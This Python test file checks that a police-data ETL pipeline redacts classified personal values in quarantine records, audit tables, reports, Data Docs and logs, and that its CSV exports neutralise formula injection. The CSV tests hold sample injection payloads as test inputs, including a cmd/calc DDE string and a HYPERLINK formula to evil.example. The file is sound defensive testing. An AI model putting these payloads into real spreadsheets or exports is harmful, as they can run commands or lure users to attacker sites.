"""Personal data protection follows the contracts' classifications (issue 9, item 7).

* the quarantine keeps every column of a rejected row, but the value of a column the contract
  classifies (identifier, personal, sensitive, restricted) or does not know is a redaction marker,
  and a malformed row's text is not kept at all;
* CSV exports neutralise formula injection (`etl.reporting.exports.csv_safe`);
* no planted value of a classified column reaches the quarantine records, the audit tables, the
  measures table, the reports, the GX Data Docs or the logs.

Planted values are text markers (``PLANTED-...``) that can be searched for anywhere; numeric personal
columns get a marker in the rows that fail (a number would also match hashes and timestamps).
"""

from __future__ import annotations

import json
import logging
from pathlib import Path

import polars as pl
import pytest

from etl.core.contracts import Contract, list_contracts, load_contract
from etl.core.extracts import RawExtract, read_extract
from etl.core.periods import Month
from etl.core.validation import QUARANTINE_SCHEMA, ValidationContext, _quarantine_frame, validate_extract
from etl.core.warehouse import Warehouse
from etl.demo.extracts import EXTRACTS, generate_extracts
from etl.loading import pipeline
from etl.quality.expectations import classified_columns_of, load_suites, run_expectations
from etl.reporting.errors import ReportError
from etl.reporting.exports import classified_columns, csv_safe
from etl.reporting.exports import write_csv as _write_csv
from etl.reporting.reports import write_report
from tests.conftest import CRIME_HEADER, crime, write_csv, write_population

FORCE = "test-force"
MONTH = "2019-03"
MARK = "PLANTED"  # every planted value starts with it (upper case: paths of tmp folders are lower case)


def _marker(cls: str) -> str:
    return f"[redacted: {cls}]"


# --------------------------------------------------------------------------------------------------
# Quarantine redaction, driven by each contract's classifications


def _planted_raw(contract: Contract) -> RawExtract:
    """Two rejected rows of the contract's file layout plus an extra column: row 2 has a planted value
    in every column, row 3 is empty everywhere."""
    header = [c.source_name for c in contract.columns] + ["force_notes"]
    frame = pl.DataFrame(
        {h: [f"{MARK}-{contract.id}-{i}", None] for i, h in enumerate(header)} | {"row_number": [2, 3]},
        schema={h: pl.Utf8 for h in header} | {"row_number": pl.Int64},
    )
    return RawExtract(Path(contract.file_name), "0" * 64, "utf-8", header, frame)


PER_ROW = pl.DataFrame({"row_number": [2, 3], "failed_checks": ["x.required", "x.required"], "failure_detail": ["x: empty", "x: empty"]})


@pytest.mark.parametrize("contract", list_contracts(), ids=lambda c: c.id)
def test_quarantine_redacts_every_classified_column_of_every_contract(contract):
    raw = _planted_raw(contract)
    lineage = {
        "extract": contract.extract,
        "force_id": FORCE,
        "month": MONTH,
        "source_file": contract.file_name,
        "source_sha256": "0" * 64,
        "contract_version": contract.version,
    }
    given = _quarantine_frame(raw, PER_ROW, lineage, contract)
    looked_up = _quarantine_frame(raw, PER_ROW, lineage)  # the contract found by its extract name
    assert given.equals(looked_up)
    assert given.schema == pl.Schema(QUARANTINE_SCHEMA)
    assert given["row_number"].to_list() == [2, 3] and given["failed_checks"].to_list() == ["x.required"] * 2
    planted, empty = (json.loads(r) for r in given["record"])
    assert list(planted) == raw.header and list(empty) == raw.header  # every column named, in file order
    expected = {}
    for i, c in enumerate(contract.columns):
        expected[c.source_name] = _marker(c.classification.lower()) if c.personal else f"{MARK}-{contract.id}-{i}"
    expected["force_notes"] = "[redacted: not in contract]"
    assert planted == expected
    assert empty == {h: None for h in raw.header}  # an empty value stays empty
    classified = [c for c in contract.columns if c.personal]
    for c in classified:  # the planted value of a classified column is nowhere in the record
        assert f'{MARK}-{contract.id}-{contract.columns.index(c)}"' not in given["record"][0]
    if contract.id in ("recorded_crime", "crime_outcomes", "stop_search", "use_of_force", "workforce"):
        assert classified  # these extracts carry identifiers and personal attributes


def test_classifications_are_read_by_the_files_own_column_names():
    """police_uk contracts rename columns (physicalName): the header names are matched to the contract."""
    contract = load_contract("police_uk_stop_and_search")
    renamed = [c for c in contract.columns if c.personal and c.source_name != c.name]
    assert {c.source_name for c in renamed} >= {"Gender", "Age range", "Self-defined ethnicity", "Officer-defined ethnicity"}
    raw = _planted_raw(contract)
    lineage = {
        "extract": contract.extract,
        "force_id": FORCE,
        "month": MONTH,
        "source_file": "x.csv",
        "source_sha256": "0",
        "contract_version": contract.version,
    }
    record = json.loads(_quarantine_frame(raw, PER_ROW, lineage)["record"][0])
    assert all(record[c.source_name] == "[redacted: personal]" for c in renamed)
    assert not any(c.name in record for c in renamed)  # the file's names, not the warehouse names


@pytest.fixture(scope="module")
def demo_bad_rows(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("demo_bad")
    generate_extracts(out, [MONTH], force_id=FORCE, scale=0.01, bad_rows_per_month=2)
    return out


@pytest.mark.parametrize("extract", EXTRACTS)
def test_rows_rejected_by_validation_have_their_classified_values_redacted(demo_bad_rows, extract):
    """Every demo extract with injected bad rows, through `validate_extract` (the real call site)."""
    contract = load_contract(extract)
    raw = read_extract(demo_bad_rows / MONTH / contract.file_name)
    result = validate_extract(contract, raw, ValidationContext(month=Month.parse(MONTH), force_id=FORCE))
    assert result.rows_quarantined == 2
    originals = {r["row_number"]: r for r in raw.frame.to_dicts()}
    for q in result.quarantine.iter_rows(named=True):
        record = json.loads(q["record"])
        original = originals[q["row_number"]]
        assert list(record) == raw.header
        for c in contract.columns:
            value = original[c.source_name]
            if c.personal:
                assert record[c.source_name] == (None if value is None else _marker(c.classification.lower())), (c.name, q["row_number"])
            else:
                assert record[c.source_name] == value, (c.name, q["row_number"])


def test_malformed_row_keeps_no_text(tmp_path):
    p = tmp_path / "rc.csv"
    good = [",".join(str(v) for v in crime(f"R{i}", "2019-03-05").values()) for i in range(3)]
    lines = [",".join(CRIME_HEADER), good[0], f"{MARK}-CREF-MAL,{FORCE},2019-03-05,,8N,{MARK}-NOTE-MAL", *good[1:]]
    p.write_text("\n".join(lines) + "\n")
    r = validate_extract(load_contract("recorded_crime"), read_extract(p), ValidationContext(month=Month.parse(MONTH)))
    assert (r.rows_in, r.rows_loaded, r.rows_quarantined) == (4, 3, 1)
    q = r.quarantine.row(0, named=True)
    assert (q["row_number"], q["failed_checks"], q["failure_detail"]) == (3, "row.field_count", "row: 6 fields, the header has 15")
    assert json.loads(q["record"]) == {"_raw_line": "[redacted: malformed row, 6 fields]"}
    assert MARK not in json.dumps(r.quarantine.to_dicts(), default=str)


# --------------------------------------------------------------------------------------------------
# CSV exports


def test_csv_safe_quotes_formula_starts_in_text_and_leaves_numbers():
    import datetime as dt

    texts = ["=1+2", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "plain", None, "a=b", " =1", "", "'=quoted"]
    frame = pl.DataFrame(
        {
            "text": texts,
            "int": list(range(-6, 6)),
            "float": [-2.5] * 12,
            "day": [dt.date(2019, 3, 1)] * 12,
            "flag": [True] * 12,
            "cat": pl.Series(["-3%"] * 11 + ["x"], dtype=pl.Categorical),
        }
    )
    safe = csv_safe(frame)
    assert safe["text"].to_list() == [
        "'=1+2",
        "'+SUM(A1:A9)",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "plain",
        None,
        "a=b",
        " =1",
        "",
        "'=quoted",
    ]
    for col in ("int", "float", "day", "flag"):
        assert safe[col].equals(frame[col]) and safe.schema[col] == frame.schema[col]
    assert safe["cat"].to_list() == ["-3%"] * 11 + ["x"]  # a signed number as text cannot run as a formula
    text = safe.write_csv()
    assert "\n-6,-2.5," not in text and ",-6,-2.5,2019-03-01,true," in text  # numbers stay numbers
    assert csv_safe(pl.DataFrame({"n": [-1]})).equals(pl.DataFrame({"n": [-1]}))


def test_report_csvs_quote_a_planted_formula(tmp_path):
    from tests.test_reports import MONTH as REPORT_MONTH
    from tests.test_reports import measures_frame, spc_frame

    formula = '=HYPERLINK("http://evil.example/?x=1","click")'
    measures = measures_frame().with_columns(
        pl.when(pl.col("measure_id") == "pk_nc_vehicle_theft").then(pl.lit(formula)).otherwise(pl.col("note")).alias("note")
    )
    paths = write_report(measures, REPORT_MONTH, tmp_path / "out", spc=spc_frame(), force_id="test-force")
    sc = pl.read_csv(paths.csv[0], infer_schema=False)
    veh = sc.filter(pl.col("measure_id") == "pk_nc_vehicle_theft").row(0, named=True)
    assert veh["note"] == "'" + formula
    for p in paths.csv:
        text = p.read_text(encoding="utf-8")
        assert "\n=" not in text and ',"=' not in text and ",=" not in text  # no cell starts a formula


def test_report_refuses_to_write_a_classified_column(tmp_path):
    assert {"crime_ref", "victim_age", "person_id", "Gender"} <= classified_columns()
    with pytest.raises(ReportError, match=r"x.csv: refusing to write column\(s\) crime_ref"):
        _write_csv(tmp_path / "x.csv", pl.DataFrame({"value": [1.0], "crime_ref": [f"{MARK}-1"]}))
    assert not (tmp_path / "x.csv").exists()


# --------------------------------------------------------------------------------------------------
# Expectation suites


def test_suites_may_not_point_value_revealing_expectations_at_classified_columns(tmp_path):
    assert classified_columns_of("recorded_crime") == {"crime_ref", "victim_age"}
    assert classified_columns_of("quarantine") == {"record"}
    assert classified_columns_of("measures") == frozenset()
    assert load_suites()  # the shipped suites pass
    suite = {
        "name": "rc",
        "meta": {"table": "recorded_crime"},
        "expectations": [
            {"type": "expect_column_values_to_be_between", "kwargs": {"column": "victim_age", "min_value": 0, "max_value": 120}},
            {"type": "expect_compound_columns_to_be_unique", "kwargs": {"column_list": ["force_id", "crime_ref"]}},
        ],
    }
    (tmp_path / "rc.json").write_text(json.dumps(suite))
    assert [s["name"] for s in load_suites(tmp_path)] == ["rc"]  # counts only: allowed
    suite["expectations"].append({"type": "expect_column_max_to_be_between", "kwargs": {"column": "victim_age", "max_value": 120}})
    (tmp_path / "rc.json").write_text(json.dumps(suite))
    with pytest.raises(ValueError, match=r"rc.json: expect_column_max_to_be_between on victim_age of recorded_crime: the column is classified"):
        load_suites(tmp_path)
    suite["expectations"][-1] = {"type": "expect_column_most_common_value_to_be_in_set", "kwargs": {"column": "crime_ref", "value_set": ["A"]}}
    (tmp_path / "rc.json").write_text(json.dumps(suite))
    with pytest.raises(ValueError, match="most_common_value_to_be_in_set on crime_ref"):
        load_suites(tmp_path)


# --------------------------------------------------------------------------------------------------
# End to end: planted values through load, expectations, report and logs


def _plant_demo(source: Path) -> dict[str, int]:
    """stop_search, use_of_force and workforce for the month: every identifier planted on every row,
    and on one row (line 5) every classified column planted (it fails its allowed values / type)."""
    generate_extracts(source, [MONTH], force_id=FORCE, scale=0.01, extracts=["stop_search", "use_of_force", "workforce"])
    bad_lines = {}
    for extract in ("stop_search", "use_of_force", "workforce"):
        contract = load_contract(extract)
        path = source / MONTH / contract.file_name
        frame = pl.read_csv(path, infer_schema=False)
        tag = extract.upper().replace("_", "")
        planted = []
        for c in contract.columns:
            if not c.personal:
                continue
            if c.logical_type == "string" and not c.enum:  # an identifier: planted on every row
                planted.append(pl.format(f"{MARK}-{tag}-{c.name}-{{}}", pl.int_range(pl.len())).alias(c.name))
            else:  # coded or numeric: planted on line 5 only (the row fails), kept elsewhere
                planted.append(pl.when(pl.int_range(pl.len()) == 3).then(pl.lit(f"{MARK}-{tag}-{c.name}")).otherwise(pl.col(c.name)).alias(c.name))
        frame.with_columns(planted).write_csv(path, null_value="")
        bad_lines[extract] = 5
    return bad_lines


def _crimes(source: Path) -> None:
    ok = [
        crime(
            f"{MARK}-CREF-OK-{i:02d}",
            f"{MONTH}-{i % 28 + 1:02d}",
            ["8N", "34B", "28E", "4.10", "37.2"][i % 5],
            age="113",
            force_notes=f"{MARK}-NOTE-OK-{i:02d}",
        )
        for i in range(40)
    ]
    bad = [
        crime(f"{MARK}-CREF-BAD-01", f"{MONTH}-10", hocr_code="999X", force_notes=f"{MARK}-NOTE-BAD-01"),  # unknown code
        crime(f"{MARK}-CREF-BAD-02", f"{MONTH}-11", age=f"{MARK}-AGE-BAD-02", force_notes=f"{MARK}-NOTE-BAD-02"),  # not a number
        crime(f"{MARK}-CREF-OK-03", f"{MONTH}-12", force_notes=f"{MARK}-NOTE-BAD-03"),  # repeats a reference
    ]
    path = write_csv(source / MONTH / "recorded_crime.csv", CRIME_HEADER + ["force_notes"], ok[:20] + bad + ok[20:])
    with path.open("a", encoding="utf-8") as fh:  # a malformed row at the end (line 45)
        fh.write(f"{MARK}-CREF-MAL-01,{FORCE},{MONTH}-05,,8N\n")
    outcomes = [{"crime_ref": f"{MARK}-CREF-OK-{i:02d}", "outcome_type": "1", "outcome_date": f"{MONTH}-28"} for i in range(0, 40, 4)]
    outcomes.insert(3, {"crime_ref": f"{MARK}-OREF-BAD-01", "outcome_type": "99", "outcome_date": f"{MONTH}-20"})  # outside 1-22
    write_csv(source / MONTH / "crime_outcomes.csv", ["crime_ref", "outcome_type", "outcome_date"], outcomes)
    write_population(source, {2018: 1_000_000, 2019: 1_000_000}, force=FORCE)


def _text_of(frame: pl.DataFrame | None) -> str:
    assert frame is not None and frame.height > 0
    return json.dumps(frame.to_dicts(), default=str)


def _files_text(folder: Path) -> str:
    files = [p for p in folder.rglob("*") if p.is_file()]
    assert files, folder
    return "".join(p.read_bytes().decode("utf-8", errors="replace") for p in files)


def test_no_planted_value_reaches_quarantine_audit_measures_reports_docs_or_logs(source, warehouse, tmp_path, caplog, capsys):
    caplog.set_level(logging.DEBUG)
    _crimes(source)
    bad_lines = _plant_demo(source)
    assert MARK in (source / MONTH / "recorded_crime.csv").read_text()

    # April: a reference already loaded in March (the GX uniqueness expectation on crime_ref fails)
    write_csv(source / "2019-04" / "recorded_crime.csv", CRIME_HEADER, [crime(f"{MARK}-CREF-OK-07", "2019-04-02"), crime(f"{MARK}-CREF-APR-01", "2019-04-03")])

    pipeline.load_source_month(source, MONTH, warehouse)
    pipeline.load_source_month(source, "2019-04", warehouse)
    docs = run_expectations(warehouse)
    dup = next(c for s in docs.suites for c in s.checks if c.check == "expect_compound_columns_to_be_unique(force_id,crime_ref)")
    assert (dup.passed, dup.failing_rows) == (False, 2)
    wh = Warehouse(warehouse)
    measures = wh.read("measures")
    out = tmp_path / "reports"
    write_report(measures.filter(pl.col("force_id") == FORCE), MONTH, out, spc=wh.read("spc"), force_id=FORCE, data_quality=wh.read("audit_checks"))

    # the planted values went in: the curated tables hold the passing rows' values
    assert f"{MARK}-CREF-OK-00" in wh.read("recorded_crime")["crime_ref"].to_list()
    assert wh.read("workforce")["person_id"].str.starts_with(f"{MARK}-WORKFORCE-person_id-").all()
    assert (wh.read("recorded_crime").filter(pl.col("month") == MONTH)["victim_age"] == 113).all()

    # exactly the planted failing rows are quarantined, each with every column kept and classified values redacted
    q = wh.read("quarantine").sort("extract", "row_number")
    got = {(r["extract"], r["row_number"]): r["failed_checks"] for r in q.iter_rows(named=True)}
    assert got == {
        ("recorded_crime", 22): "hocr_code.code_list",
        ("recorded_crime", 23): "victim_age.type",
        ("recorded_crime", 24): "crime_ref.unique",
        ("recorded_crime", 45): "row.field_count",
        ("crime_outcomes", 5): "outcome_type.range",
        ("stop_search", bad_lines["stop_search"]): "age_band.allowed_values; officer_defined_ethnicity.allowed_values; self_defined_ethnicity.allowed_values",
        ("use_of_force", bad_lines["use_of_force"]): "subject_ethnicity.allowed_values",
        ("workforce", bad_lines["workforce"]): "absence_days_month.type; absence_mental_health_days.type; ethnicity_group.allowed_values; sex.allowed_values",
    }
    records = {(r["extract"], r["row_number"]): json.loads(r["record"]) for r in q.iter_rows(named=True)}
    bad_code = records[("recorded_crime", 22)]
    assert bad_code["hocr_code"] == "999X" and bad_code["recorded_date"] == f"{MONTH}-10"  # what the analyst needs to fix
    assert (bad_code["crime_ref"], bad_code["victim_age"], bad_code["force_notes"]) == (
        "[redacted: identifier]",
        "[redacted: personal]",
        "[redacted: not in contract]",
    )
    assert records[("recorded_crime", 45)] == {"_raw_line": "[redacted: malformed row, 5 fields]"}
    assert records[("crime_outcomes", 5)] == {"crime_ref": "[redacted: identifier]", "outcome_type": "99", "outcome_date": f"{MONTH}-20"}
    wf = records[("workforce", bad_lines["workforce"])]
    assert (wf["person_id"], wf["sex"], wf["absence_days_month"]) == ("[redacted: identifier]", "[redacted: personal]", "[redacted: personal]")

    # no planted value anywhere people or auditors look
    assert MARK not in _text_of(q)
    assert MARK not in _text_of(wh.read("audit_runs"))
    assert MARK not in _text_of(wh.read("audit_checks"))
    assert MARK not in _text_of(measures)
    assert MARK not in _files_text(out)
    assert docs.data_docs is not None and docs.data_docs.exists()
    gx_text = _files_text(warehouse / "gx")
    assert "expect_compound_columns_to_be_unique" in gx_text  # the Data Docs and results are there
    assert MARK not in gx_text
    assert MARK not in caplog.text
    assert all(MARK not in str(r.args) for r in caplog.records)
    printed = capsys.readouterr()
    assert MARK not in printed.out and MARK not in printed.err
